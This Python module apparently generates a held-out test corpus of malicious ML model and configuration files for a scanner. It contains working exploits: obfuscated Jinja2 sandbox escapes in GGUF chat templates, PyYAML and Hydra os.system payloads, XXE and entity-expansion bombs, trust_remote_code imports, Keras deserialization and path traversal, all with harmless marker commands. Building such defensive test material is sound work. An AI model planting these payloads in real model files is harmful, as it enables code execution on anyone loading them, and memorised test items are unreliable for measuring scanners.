"""Held-out attacks: configurations, templates, XML, YAML and other texts that loaders act on."""

# ruff: noqa: E501 (one attack a line)
from __future__ import annotations

import json
import struct
from collections.abc import Iterator

from corpora.unseen_archives import _make, tarred, zipped
from corpora.unseen_units import (
    BOMB,
    BROKEN,
    CALL,
    CUSTOM,
    EVIL,
    FOREIGN,
    HIDDEN,
    KERAS,
    OPERATOR,
    OUTSIDE,
    PATH,
    REMOTE,
    TEMPLATE,
    TOUCH,
    WRITE,
    YAML,
    Attack,
    pb,
)

PAYLOAD = {"payload.py": f"{WRITE}\ndef _load_pyfunc(path): pass\nclass Model: pass\n".encode()}
CODE = REMOTE | CALL | frozenset({"model-keras-foreign-class"})


def gguf(*pairs: tuple[str, str], tensors: int = 0, count: int | None = None) -> bytes:
    text = lambda s: struct.pack("<Q", len(s.encode())) + s.encode()  # noqa: E731
    body = b"".join(text(k) + struct.pack("<I", 8) + text(v) for k, v in pairs)
    return b"GGUF" + struct.pack("<IQQ", 3, tensors, len(pairs) if count is None else count) + body


def templates() -> Iterator[Attack]:
    run = f"popen('{TOUCH}').read()"
    table = {
        "cycler": "{{ cycler.__init__.__globals__.os.%s }}",
        "namespace": "{{ namespace.__init__.__globals__['__builtins__']['__import__']('os').%s }}",
        "attr-escape": "{{ (lipsum|attr('\\x5f\\x5fglobals\\x5f\\x5f')).os.%s }}",
        "joined": "{% set a = '__glo' ~ 'bals__' %}{{ (lipsum|attr(a))['os'].%s }}",
        "map-filter": "{% for g in [lipsum]|map(attribute='__globals__') %}{{ g.os.%s }}{% endfor %}",
        "subclasses": "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == 'Popen' %}{{ c(['touch', '/tmp/MARK']) }}{% endif %}{% endfor %}",
        "subscript": "{{ joiner['__ini' + 't__']['__globals__']['os'].%s }}",
        "reversed": "{{ (lipsum|attr('__slabolg__'|reverse)).os.%s }}",
        "format": "{{ (lipsum|attr('%c%cglobals%c%c'|format(95, 95, 95, 95))).os.%s }}",
        "self": "{{ self.__init__.__globals__.__builtins__.__import__('os').%s }}",
        "message-attribute": "{{ messages.__class__.__base__.__subclasses__()|length }}{{ dict.mro()[-1].__subclasses__()|length }}{{ joiner.__init__.__globals__.os.%s }}",
        "macro": "{% macro f(o) %}{{ o.__globals__.os.%s }}{% endmacro %}{{ f(lipsum) }}",
        "line-comment": "{#- chat -#}{% if messages %}{% raw %}{{ x }}{% endraw %}{{ lipsum.__globals__.os.%s }}{% endif %}",
        "loop-variable": "{% for m in messages recursive %}{{ loop.__class__.__init__.__globals__['sys'].modules['os'].%s }}{% endfor %}",
    }  # fmt: skip
    load = "import gguf, jinja2\nr = gguf.GGUFReader(F)\nt = r.fields['tokenizer.chat_template'].contents()\njinja2.Environment(loader=jinja2.BaseLoader()).from_string(t).render(messages=[{'role': 'user', 'content': 'x'}])"
    plain = {"general.architecture": "llama", "tokenizer.chat_template": ""}
    rows: dict[str, tuple] = {}
    for what, text in table.items():
        rows[what] = (f"the chat template leaves the sandbox that it is not in: {what}", gguf(*{**plain, "tokenizer.chat_template": text.replace("%s", run)}.items()))
    rows["named-template"] = ("a second template, for tools, is the hostile one", gguf(*plain.items(), ("tokenizer.chat_template.tool_use", table["cycler"].replace("%s", run))), None, load.replace("'tokenizer.chat_template'", "'tokenizer.chat_template.tool_use'"))
    slow = "{% for a in range(9999) %}{% for b in range(9999) %}{% for c in range(9999) %}{% endfor %}{% endfor %}{% endfor %}"
    big = "{% set ns = namespace(x='AAAAAAAA') %}{% for a in range(60) %}{% set ns.x = ns.x ~ ns.x %}{% endfor %}"
    safe = load.replace("jinja2.Environment(loader=jinja2.BaseLoader())", "__import__('jinja2.sandbox').sandbox.ImmutableSandboxedEnvironment()")
    rows["loops"] = ("10^12 turns, which no sandbox forbids", gguf(("tokenizer.chat_template", slow)), TEMPLATE | BOMB, safe, "bomb")
    rows["doubling"] = ("a text that doubles 60 times, which no sandbox forbids", gguf(("tokenizer.chat_template", big)), TEMPLATE | BOMB, safe, "bomb")
    rows["multiply"] = ("'a' times 10^11 in the sandbox", gguf(("tokenizer.chat_template", "{{ 'a' * 100000000000 }}")), TEMPLATE | BOMB, safe, "bomb")
    rows["tokenizer-config"] = ("the template of tokenizer_config.json", {"tokenizer_config.json": json.dumps({"chat_template": table["cycler"].replace("%s", run)}).encode()}, None, "import json, jinja2; jinja2.Template(json.load(open(F))['chat_template']).render()")
    rows["template-list"] = ("the second of several templates in tokenizer_config.json", {"tokenizer_config.json": json.dumps({"chat_template": [{"name": "default", "template": "{{ messages }}"}, {"name": "rag", "template": table["macro"].replace("%s", run)}]}).encode()}, None, "import json, jinja2; jinja2.Template(json.load(open(F))['chat_template'][1]['template']).render()")
    rows["jinja-file"] = ("chat_template.jinja beside the model", {"chat_template.jinja": (table["joined"].replace("%s", run)).encode()}, None, "import jinja2; jinja2.Template(open(F).read()).render()")
    yield from _make("templates", "llama-cpp-python <= 0.2.71 and others that render with jinja2.Environment (CVE-2024-34359)", load, TEMPLATE, rows, "m.gguf")


def yamls() -> Iterator[Attack]:
    load = "import yaml; yaml.unsafe_load(open(F))"
    py = "tag:yaml.org,2002:python"
    laugh = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(f"{b}: &{b} [{','.join(['*' + a] * 9)}]\n" for a, b in zip("abcdefghi", "bcdefghij", strict=False))
    table = {
        "apply": ("calls os.system", f"!!python/object/apply:os.system ['{TOUCH}']\n".encode()),
        "new": ("object/new of a class that acts when made", b"!!python/object/new:subprocess.Popen [['touch', /tmp/MARK]]\n"),
        "verbatim": ("the tag is spelled in full", f"weights: !<{py}/object/apply:os.system> ['{TOUCH}']\n".encode()),
        "tag-directive": ("a TAG directive hides the word python", f"%TAG !m! {py}/object/\n---\nx: !m!apply:os.system ['{TOUCH}']\n".encode()),
        "percent": ("the tag is percent-encoded", f"x: !!%70ython/object/apply:os.system ['{TOUCH}']\n".encode()),
        "key": ("the call is a key of a mapping", f"? !!python/object/apply:os.system ['{TOUCH}']\n: 1\n".encode()),
        "module": ("names a module beside the model, which is imported", {"m.yaml": b"x: !!python/name:payload.Model\n", **PAYLOAD}, None, load),
        "state": ("listitems call the extend that the state put there", f"!!python/object/new:type\nargs: ['z', !!python/tuple [], {{'extend': !!python/name:exec }}]\nlistitems: \"{WRITE}\"\n".encode()),
        "anchors": ("anchors that grow nine-fold nine times, printed", laugh.encode(), BOMB | BROKEN | YAML, "import yaml; x = yaml.safe_load(open(F)); str(x)", "bomb"),
        "utf16": ("the same in UTF-16", f"x: !!python/object/apply:os.system ['{TOUCH}']\n".encode("utf-16")),
        "flow": ("the call hides in a flow sequence behind a comment", f"# exec-free\nlayers: [1, {{a: !!python/object/apply:os.system ['{TOUCH}']}}] # end\n".encode()),
    }  # fmt: skip
    yield from _make("yaml", "yaml.unsafe_load and UnsafeLoader, PyYAML 6.0", load, YAML | CALL, table, "m.yaml")


def hydra() -> Iterator[Attack]:
    load = "from omegaconf import OmegaConf; import hydra.utils; hydra.utils.instantiate(OmegaConf.load(F))"
    nemo = "import tarfile; tarfile.open(F).extract('model_config.yaml', '.'); F = 'model_config.yaml'; " + load
    first = "_target_: os.system\ncommand: " + TOUCH + "\n"
    table = {
        "target": ("_target_ is os.system", first),
        "nested": ("the target is deep in an honest configuration", "encoder:\n  layers:\n    - name: a\n    - _target_: subprocess.check_call\n      _args_: [[touch, /tmp/MARK]]\n"),
        "args": ("_args_ gives positional arguments", f"_target_: builtins.exec\n_args_: [\"{WRITE}\"]\n"),
        "interpolated": ("the target is put together by interpolation", f"a: os\nb: sys\nmodel:\n  _target_: ${{a}}.${{b}}tem\n  command: {TOUCH}\n"),
        "resolver": ("hydra's own get_method is the target of a target", "m:\n  _target_: hydra.utils.call\n  config:\n    _target_: os.system\n    command: " + TOUCH + "\n"),
        "partial": ("_partial_ makes a call that waits, map uses it up", f"_target_: builtins.list\n_args_:\n  - _target_: builtins.map\n    _args_:\n      - {{_target_: os.system, _partial_: true}}\n      - ['{TOUCH}']\n"),
        "quoted-key": ("the key is quoted and escaped", f'"\\x5ftarget_": os.system\ncommand: {TOUCH}\n'),
        "merge": ("a YAML anchor brings the target", f"x: &x\n  _target_: os.system\nmodel:\n  <<: *x\n  command: {TOUCH}\n"),
    }  # fmt: skip
    for what, (does, text) in table.items():
        config = text.encode()
        nemo_file = what in {"nested", "merge", "partial"}
        data = tarred(("model_config.yaml", config, {}), ("model_weights.ckpt", b"", {})) if nemo_file else config
        file = "m.nemo" if nemo_file else "model_config.yaml"
        yield Attack(f"hydra/{what}", "hydra", {file: data}, "hydra.utils.instantiate, Hydra 1.3.2, as NeMo's restore_from", nemo if nemo_file else load, does, CODE, "hydra")


def directories() -> Iterator[Attack]:
    """Folders of Hugging Face libraries and MLflow."""
    remote = "from transformers import AutoConfig; AutoConfig.from_pretrained('.', trust_remote_code=True)"
    auto = {"model_type": "own", "auto_map": {"AutoConfig": "payload.Model"}}
    conf = f"{WRITE}\nfrom transformers import PretrainedConfig\nclass Model(PretrainedConfig): model_type = 'own'\n".encode()
    flow = "import mlflow.pyfunc; mlflow.pyfunc.load_model('.')"
    ml = lambda extra: f"flavors:\n  python_function:\n{extra}mlflow_version: 3.0.0\nmodel_uuid: a\n".encode()  # noqa: E731
    growth = [{"type": "Replace", "pattern": {"String": "a"}, "content": "aa"}] * 40
    tokens = {"version": "1.0", "truncation": None, "padding": None, "added_tokens": [], "normalizer": {"type": "Sequence", "normalizers": growth}, "pre_tokenizer": None, "post_processor": None, "decoder": None, "model": {"type": "WordLevel", "vocab": {"a": 0}, "unk_token": "a"}}
    slow = {**tokens, "normalizer": None, "pre_tokenizer": {"type": "Split", "pattern": {"Regex": "(?:(a|a|a)*)*$|(?:(\\w*)*)*!"}, "behavior": "Isolated", "invert": False}}
    index = {"metadata": {}, "weight_map": {"w": "../../../../outside/canary.pkl"}}
    modules = [{"idx": 0, "name": "0", "path": "", "type": "payload.Model"}]
    use = "import tokenizers; tokenizers.Tokenizer.from_file(F).encode('a' * 40 + 'b')"
    table = {
        "auto-map": ("trust_remote_code imports the module beside", {"config.json": json.dumps(auto).encode(), "payload.py": conf}, REMOTE, remote),
        "auto-map-tokenizer": ("the tokenizer's configuration names the code", {"tokenizer_config.json": json.dumps({"tokenizer_class": "Own", "auto_map": {"AutoTokenizer": ["payload.Model", None]}}).encode(), "config.json": b'{"model_type": "bert"}', **PAYLOAD}, REMOTE, "from transformers import AutoTokenizer; AutoTokenizer.from_pretrained('.', trust_remote_code=True)"),
        "auto-map-processor": ("the image processor's configuration names the code", {"preprocessor_config.json": json.dumps({"image_processor_type": "Own", "auto_map": {"AutoImageProcessor": "payload.Model"}}).encode(), **PAYLOAD}, REMOTE, "from transformers import AutoImageProcessor; AutoImageProcessor.from_pretrained('.', trust_remote_code=True)"),
        "index-traversal": ("the index of a sharded checkpoint leads to a pickle outside", {"pytorch_model.bin.index.json": json.dumps(index).encode()}, PATH, "import json, pickle\nfor v in set(json.load(open(F))['weight_map'].values()): pickle.load(open(v, 'rb'))"),
        "training-args": ("training_args.bin is a pickle as well", {"config.json": b"{}", "training_args.bin": zipped(("a/data.pkl", EVIL), ("a/version", b"3\n"), ("a/byteorder", b"little"))}, CALL, "import torch; torch.load('training_args.bin', weights_only=False)"),
        "tokenizer-growth": ("40 normalizers double the text each", {"tokenizer.json": json.dumps(tokens).encode()}, BOMB, use, "bomb"),
        "tokenizer-regex": ("the splitting pattern backtracks without end", {"tokenizer.json": json.dumps(slow).encode()}, BOMB, use, "bomb"),
        "sentence-modules": ("modules.json names a class beside the model (sentence-transformers' import_from_string)", {"modules.json": json.dumps(modules).encode(), **PAYLOAD}, CODE, "import json, importlib; [importlib.import_module(m['type'].rpartition('.')[0]) for m in json.load(open(F))]"),
        "mlflow-loader": ("MLmodel names a loader module in the code folder", {"MLmodel": ml("    code: code\n    loader_module: payload\n"), "code/payload.py": PAYLOAD["payload.py"]}, CODE, flow),
        "mlflow-data": ("the flavor's pickle lies outside of the model", {"MLmodel": ml("    loader_module: mlflow.sklearn\n    model_path: ../../../../outside/canary.pkl\n    serialization_format: pickle\n"), "x": b""}, PATH | CALL, flow),
    }  # fmt: skip
    yield from _make("directories", "transformers 5, tokenizers, MLflow 3", remote, REMOTE, table, "x")
    bert = {"config.json": b'{"model_type": "bert", "vocab_size": 8}'}
    show = "print(open('vocab.txt').read())"
    yield Attack("directories/symlink-vocabulary", "directories", bert, "any tokenizer that reads vocab.txt", show, "the vocabulary is a link to a file outside", PATH, links={"vocab.txt": f"{OUTSIDE}/canary.txt"})
    yield Attack("directories/symlink-folder", "directories", bert, "any loader that reads weights/0", "print(open('weights/canary.txt').read())", "a folder of the model is a link to one outside", PATH, links={"weights": OUTSIDE})
    mar = {"model": {"modelName": "m", "serializedFile": "m.pt", "handler": "payload.py"}, "runtime": "python"}
    files = {"m.mar": zipped(("MAR-INF/MANIFEST.json", json.dumps(mar).encode()), ("payload.py", PAYLOAD["payload.py"]), ("m.pt", b""))}
    serve = "import zipfile, json, sys, importlib; z = zipfile.ZipFile(F); z.extractall('x'); sys.path.insert(0, 'x'); importlib.import_module(json.load(open('x/MAR-INF/MANIFEST.json'))['model']['handler'][:-3])"
    yield Attack("directories/mar-handler", "directories", files, "TorchServe ModelLoader.load: imports the manifest's handler", serve, "the handler's module is run", CODE | FOREIGN)


def xmls() -> Iterator[Attack]:
    entity = f'<!DOCTYPE PMML [<!ENTITY x SYSTEM "file://{OUTSIDE}/canary.txt">]>'
    load = "from lxml import etree; p = etree.XMLParser(resolve_entities=True, load_dtd=True, huge_tree=True, no_network=False); t = etree.parse(F, p); print(etree.tostring(t))"
    body = '<PMML version="4.4"><Header description="&x;"/></PMML>'
    steps = "".join(f'<!ENTITY e{i} "{("&e%d;" % (i - 1)) * 12}">' for i in range(1, 12))
    laugh = f'<!DOCTYPE PMML [<!ENTITY e0 "AAAAAAAAAAAAAAAA">{steps}]><PMML version="4.4">&e11;</PMML>'
    net = '<net name="m" version="11"><layers>&x;</layers></net>'
    par = f'<!DOCTYPE PMML [<!ENTITY % p SYSTEM "file://{OUTSIDE}/canary.txt"> <!ENTITY x SYSTEM "file://{OUTSIDE}/canary.txt">]>'
    any_xml = frozenset({"model-path-traversal", "model-external-data", "model-broken-stream", "model-code-execution", "model-decompression-bomb", "model-dangerous-operator"})
    table = {
        "pmml-entity": ("an external entity reads a file", f'<?xml version="1.0"?>{entity}{body}'.encode()),
        "pmml-utf16": ("the same in UTF-16", f'<?xml version="1.0" encoding="UTF-16"?>{entity}{body}'.encode("utf-16")),
        "openvino-entity": ("an external entity in an OpenVINO model, for tools that read it with an XML library", {"m.xml": f'<?xml version="1.0"?>{entity.replace("PMML", "net")}{net}'.encode()}),
        "laughs": ("entities that grow", laugh.encode(), any_xml, load, "bomb"),
        "xinclude": ("XInclude reads a file", f'<PMML version="4.4" xmlns:xi="http://www.w3.org/2001/XInclude"><Header><xi:include href="file://{OUTSIDE}/canary.txt" parse="text"/></Header></PMML>'.encode(), None, load.replace("print", "t.xinclude(); print")),
        "latin": ("an entity behind a comment in another encoding", f'<?xml version="1.0" encoding="ISO-8859-1"?><!-- model -->{par.replace(" ", chr(10), 1)}{body}'.encode("latin-1")),
    }  # fmt: skip
    yield from _make("xml", "lxml with entities, as PMML tools on Java's defaults", load, any_xml, table, "m.pmml")


def graphs() -> Iterator[Attack]:
    def tensor(location: str, size: int = 72, **more: str) -> bytes:
        pairs = {"location": location, **more}
        entries = [(13, pb((1, k), (2, v))) for k, v in pairs.items()]
        return pb((1, size), (2, 2), (8, "w"), *entries, (14, 1))

    def model(nodes: list[bytes], weights: list[bytes] = (), domains: list[str] = (), out: tuple[int, int] = (2, 72)) -> bytes:
        value = lambda n: pb((1, n), (2, pb((1, pb((1, out[0]), (2, pb((1, pb((2, "n")))))) ))))  # noqa: E731
        graph = pb(*((1, n) for n in nodes), (2, "g"), *((5, w) for w in weights), (12, value("y")))
        return pb((1, 8), (7, graph), *((8, pb((1, d), (2, 17))) for d in ["", *domains]))

    same = pb((1, "w"), (2, "y"), (3, "i"), (4, "Identity"))
    run = "import onnxruntime as o; s = o.InferenceSession(F); print(bytes(s.run(None, {})[0]))"
    own = "import onnx; m = onnx.load(F, load_external_data=False); t = m.graph.initializer[0]; e = {x.key: x.value for x in t.external_data}; print(open(e['location'], 'rb').read())"
    ints = lambda *v: pb((1, len(v)), (2, 7), (8, "s"), (9, struct.pack(f"<{len(v)}q", *v)))  # noqa: E731
    fill = pb((1, "s"), (2, "y"), (4, "ConstantOfShape"))
    far = "../../../../outside/canary.txt"
    custom = pb((1, "w"), (2, "y"), (4, "Run"), (7, "evil.ops"))
    table = {
        "external-dots": ("external data above the folder, for loaders that join paths", model([same], [tensor(far)]), PATH, own),
        "external-absolute": ("external data with an absolute path", model([same], [tensor(f"{OUTSIDE}/canary.txt")]), PATH, own),
        "fill-bomb": ("ConstantOfShape of 2^40 floats", model([fill], [ints(1 << 40)], out=(1, 1)), BOMB, run, "bomb"),
        "merged": ("two messages one behind the other: protobuf joins them, the second brings the node that fills memory", model([fill], [ints(1 << 40)], out=(1, 1)) + pb((7, pb((1, pb((1, "s"), (2, "z"), (4, "ConstantOfShape")))))), BOMB | HIDDEN | BROKEN, run, "bomb"),
        "custom-domain": ("an operator that a native library must provide", model([custom], [tensor("w.bin")], ["evil.ops"]), CUSTOM, None, "kept: needs SessionOptions.register_custom_ops_library with the publisher's library (onnxruntime docs, custom operators)"),
        "python-operator": ("PyOp of onnxruntime-extensions calls a Python function of the process", model([pb((1, "w"), (2, "y"), (4, "PyOp"), (7, "ai.onnx.contrib"))], [tensor("w.bin")], ["ai.onnx.contrib"]), CUSTOM, None, "kept: onnxruntime-extensions docs, PyOp"),
    }  # fmt: skip
    yield from _make("onnx", "onnxruntime 1.32, onnx 1.23 without its path check", run, CUSTOM | OPERATOR, table, "m.onnx")


def keras() -> Iterator[Attack]:
    build = "import json, keras; keras.config.enable_unsafe_deserialization() if hasattr(keras.config, 'enable_unsafe_deserialization') else None; c = json.load(open(F)); m = keras.saving.deserialize_keras_object(c, safe_mode=False)"
    obj = lambda module, cls, config: {"module": module, "class_name": cls, "config": config, "registered_name": None}  # noqa: E731
    lookup = obj("keras.layers", "StringLookup", {"name": "s", "vocabulary": f"{OUTSIDE}/canary.txt", "num_oov_indices": 1, "mask_token": None, "oov_token": "[UNK]", "idf_weights": None, "encoding": "utf-8", "invert": False, "output_mode": "int", "sparse": False, "pad_to_max_tokens": False, "max_tokens": None})
    table = {
        "function-object": ("the configuration names a function of another module", {"class_name": "function", "config": "system", "module": "os", "registered_name": "system"}, build + f"; m({TOUCH!r})"),
        "file-utility": ("the configuration names keras.utils.get_file, which then fetches", {"class_name": "function", "config": "get_file", "module": "keras.utils", "registered_name": "get_file"}, build + "; m('x', 'http://127.0.0.1:8765/model')"),
        "vocabulary-file": ("StringLookup reads its vocabulary from a file outside", lookup, build + "; print(m.get_vocabulary())"),
        "class-outside": ("a class outside of Keras is built from its configuration", obj("payload", "Model", {}), build),
        "nested-argument": ("an argument of a layer is a function of os", obj("keras.layers", "Dense", {"units": 1, "activation": {"class_name": "function", "config": "system", "module": "os", "registered_name": "system"}}), build + f"; m.activation({TOUCH!r})"),
        "units-bomb": ("a layer of 10^6 times 10^6 numbers", {"class_name": "Sequential", "module": "keras", "registered_name": None, "config": {"name": "s", "layers": [obj("keras.layers", "InputLayer", {"batch_shape": [None, 1000000], "name": "i"}), obj("keras.layers", "Dense", {"units": 1000000, "name": "d"})], "build_input_shape": [None, 1000000]}}, build),
    }  # fmt: skip
    for what, (does, config, load) in table.items():
        rules = {"units-bomb": BOMB, "vocabulary-file": PATH | KERAS}.get(what, KERAS | CALL)
        for env in ("keras30", "tf") if what == "function-object" else ("keras30",):
            yield Attack(f"keras/{what}" + ("-new" if env == "tf" else ""), "keras", {"config.json": json.dumps(config).encode(), **(PAYLOAD if what == "class-outside" else {})}, "keras.saving.deserialize_keras_object(safe_mode=False), Keras 3", load, does, rules, env, "bomb" if what == "units-bomb" else "mark")
    archive = lambda c: zipped(("metadata.json", b'{"keras_version": "3.0.5", "date_saved": "2024-01-01@00:00:00"}'), ("config.json", json.dumps(c).encode()), ("model.weights.h5", b""))  # noqa: E731
    whole = "import keras; keras.saving.load_model(F, safe_mode=False)"
    yield Attack("keras/archive-class", "keras", {"m.keras": archive(obj("payload", "Model", {})), **PAYLOAD}, "keras.saving.load_model(safe_mode=False), Keras 3.0.5", whole, "a .keras archive names a class of a module beside", KERAS | CALL, "keras30")
    yield Attack("keras/archive-popen", "keras", {"m.keras": archive(obj("subprocess", "Popen", {}))}, "keras.saving.load_model, Keras 3.0.5", "import subprocess\nsubprocess.Popen.from_config = classmethod(lambda c, **k: None)\n" + whole, "a .keras archive names subprocess.Popen", KERAS | CALL, "keras30", "kept: Keras 3.0.5 imports module and class of the configuration (CVE-2025-1550)")


def boosters() -> Iterator[Attack]:
    tree = {"base_weights": [0.0, 0.0, 0.0], "categories": [], "categories_nodes": [], "categories_segments": [], "categories_sizes": [], "default_left": [0, 0, 0], "id": 0, "left_children": [0, -1, -1], "loss_changes": [1.0, 0.0, 0.0], "parents": [2147483647, 0, 0], "right_children": [0, -1, -1], "split_conditions": [0.5, 0.0, 0.0], "split_indices": [0, 0, 0], "split_type": [0, 0, 0], "sum_hessian": [1.0, 1.0, 1.0], "tree_param": {"num_deleted": "0", "num_feature": "1", "num_nodes": "3", "size_leaf_vector": "1"}}
    learner = {"attributes": {}, "feature_names": [], "feature_types": [], "gradient_booster": {"model": {"gbtree_model_param": {"num_parallel_tree": "1", "num_trees": "1"}, "iteration_indptr": [0, 1], "tree_info": [0], "trees": [tree]}, "name": "gbtree"}, "learner_model_param": {"base_score": "5E-1", "boost_from_average": "1", "num_class": "0", "num_feature": "1", "num_target": "1"}, "objective": {"name": "reg:squarederror", "reg_loss_param": {"scale_pos_weight": "1"}}}
    x = json.dumps({"learner": learner, "version": [2, 1, 0]}).encode()
    use = "import xgboost, numpy; b = xgboost.Booster(model_file=F); b.predict(xgboost.DMatrix(numpy.ones((1, 1))))"
    lines = ["tree", "version=v4", "num_class=1", "num_tree_per_iteration=1", "label_index=0", "max_feature_idx=0", "objective=regression", "feature_names=a", "feature_infos=[0:1]", "tree_sizes=%d", ""]
    body = "Tree=0\nnum_leaves=3\nnum_cat=0\nsplit_feature=0 0\nsplit_gain=1 1\nthreshold=0.5 0.5\ndecision_type=2 2\nleft_child=1 0\nright_child=1 0\nleaf_value=0 0 0\nleaf_weight=1 1 1\nleaf_count=1 1 1\ninternal_value=0 0\ninternal_weight=1 1\ninternal_count=2 2\nis_linear=0\nshrinkage=1\n\n\n"
    text = "\n".join(lines) % len(body) + "\n" + body + "end of trees\n\nfeature_importances:\n\nparameters:\n[boosting: gbdt]\nend of parameters\n\npandas_categorical:null\n"
    light = "import lightgbm, numpy; b = lightgbm.Booster(model_file=F); b.predict(numpy.ones((1, 1)))"
    wide = text.replace("num_leaves=3", "num_leaves=2000000000").encode()
    odd = BOMB | BROKEN
    table = {
        "xgboost-cycle": ("a node is its own child: predict never ends", {"m.json": x}, odd, use, "bomb"),
        "xgboost-deep": ("JSON of a million brackets runs the parser out of its stack", {"m.json": b'{"learner":' + b"[" * 1_000_000}, odd, use, "bomb"),
        "lightgbm-cycle": ("two nodes are each other's children: predict never ends", text.encode(), odd, light, "bomb"),
        "lightgbm-leaves": ("two billion leaves are allocated", wide, odd, light, "bomb"),
    }  # fmt: skip
    yield from _make("boosters", "xgboost 3.2, lightgbm 4.7", use, odd, table, "m.txt")


def attacks() -> Iterator[Attack]:
    for part in (templates, yamls, hydra, directories, xmls, graphs, keras, boosters):
        yield from part()
